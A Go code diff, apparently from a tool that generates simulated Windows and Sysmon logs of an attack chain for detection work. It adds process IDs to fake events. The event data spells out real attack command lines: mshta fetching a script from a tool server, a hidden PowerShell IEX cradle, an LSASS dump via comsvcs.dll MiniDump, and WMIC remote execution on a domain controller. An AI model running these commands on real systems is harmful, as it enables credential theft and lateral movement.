@@ -25,15 +25,16 @@ func (p *plan) run(at int64, h *host, x process) {
 func openDocument(p *plan, at int64) {
 	who := p.victim
 	p.run(at, who.host, process{image: cmdPath, command: `cmd.exe /c mshta ` + toolServer + `/plan.hta`, parent: winword,
-		started: `"` + winword + `" /n "C:\Users\` + who.login + `\Downloads\Release plan Q4.docm" /o ""`, user: who.account()})
+		started: `"` + winword + `" /n "C:\Users\` + who.login + `\Downloads\Release plan Q4.docm" /o ""`, user: who.account(), id: "6944", parentID: "6120"})
 	p.run(at+1e9, who.host, process{image: `C:\Windows\System32\mshta.exe`, command: `mshta ` + toolServer + `/plan.hta`, parent: cmdPath,
-		started: `cmd.exe /c mshta ` + toolServer + `/plan.hta`, user: who.account()})
+		started: `cmd.exe /c mshta ` + toolServer + `/plan.hta`, user: who.account(), id: "7012", parentID: "6944"})
 }
 
 // runCradle fetches a script and runs it.
 func runCradle(p *plan, at int64) {
 	who := p.victim
-	p.run(at, who.host, process{image: shellPath, command: cradle, parent: `C:\Windows\System32\mshta.exe`, started: `mshta ` + toolServer + `/plan.hta`, user: who.account()})
+	p.run(at, who.host, process{image: shellPath, command: cradle, parent: `C:\Windows\System32\mshta.exe`, started: `mshta ` + toolServer + `/plan.hta`, user: who.account(),
+		id: "7316", parentID: "7012"})
 	p.add(at+2e9, Windows, func(w *writer) {
 		w.windows(who.host, sysmon, 3, "ProcessGuid", w.guid(who.host, "7316"), "ProcessId", "7316", "Image", shellPath, "User", who.account(), "Protocol", "tcp",
 			"Initiated", "true", "SourceIp", who.host.ip, "SourceHostname", who.host.fqdn, "SourcePort", "50112", "DestinationIp", intruder().ip, "DestinationPort", "8080")
@@ -66,7 +67,7 @@ func listDirectory(p *plan, at int64) {
 		if command[0] == 'n' && command[1] == 'e' {
 			image = `C:\Windows\System32\net.exe`
 		}
-		p.run(at, who.host, process{image: image, command: command, parent: shellPath, started: cradle, user: who.account()})
+		p.run(at, who.host, process{image: image, command: command, parent: shellPath, started: cradle, user: who.account(), parentID: "7316"})
 		at = p.soon(at+2e9, 14*time.Second)
 	}
 	p.script(at, who, `Get-DomainUser -AdminCount | Select samaccountname; Find-LocalAdminAccess`)
@@ -79,7 +80,7 @@ func dumpMemory(p *plan, at int64) {
 	const dump = `C:\Windows\Temp\lsass-748.dmp`
 	const rundll = `C:\Windows\System32\rundll32.exe`
 	p.run(at, who.host, process{image: rundll, command: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 748 ` + dump + ` full`, parent: shellPath, started: cradle,
-		user: who.account(), integrity: "High"})
+		user: who.account(), integrity: "High", id: "7420", parentID: "7316"})
 	p.add(at+200e6, Windows, func(w *writer) {
 		w.windows(who.host, sysmon, 10, "SourceProcessGUID", w.guid(who.host, "7420"), "SourceProcessId", "7420", "SourceThreadId", "7424", "SourceImage", rundll,
 			"TargetProcessGUID", w.guid(who.host, "748"), "TargetProcessId", "748", "TargetImage", `C:\Windows\System32\lsass.exe`, "GrantedAccess", "0x1FFFFF",
@@ -116,11 +117,12 @@ func installService(p *plan, at int64) {
 		parent: cmdPath, started: `C:\Windows\system32\cmd.exe /c powershell -nop -w hidden -c "IEX …"`, user: `NT AUTHORITY\SYSTEM`, integrity: "System"})
 }
 
-// runOverWMI starts a command on the domain controller.
+// runOverWMI starts a command on the domain controller, from a process that
+// runs with the token of the administrator's session.
 func runOverWMI(p *plan, at int64) {
 	admin, from := p.admins[stolenAdmin], p.victim
 	p.run(at, from.host, process{image: `C:\Windows\System32\wbem\WMIC.exe`, command: `wmic.exe /node:` + p.dc.fqdn + ` /user:` + admin.account() + ` process call create "cmd.exe /c quser"`,
-		parent: shellPath, started: cradle, user: from.account(), integrity: "High"})
+		parent: shellPath, started: cradle, user: admin.account(), integrity: "High", parentID: "7316"})
 	p.add(at+400e6, Windows, func(w *writer) { w.logon(w.dc, admin, "3", "NtLmSsp ", "NTLM", from.host.name, from.host.ip) })
 	p.run(at+900e6, p.dc, process{image: cmdPath, command: `cmd.exe /c quser 1> \\127.0.0.1\ADMIN$\__1763276580 2>&1`, parent: `C:\Windows\System32\wbem\WmiPrvSE.exe`,
 		started: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, user: admin.account(), integrity: "High"})
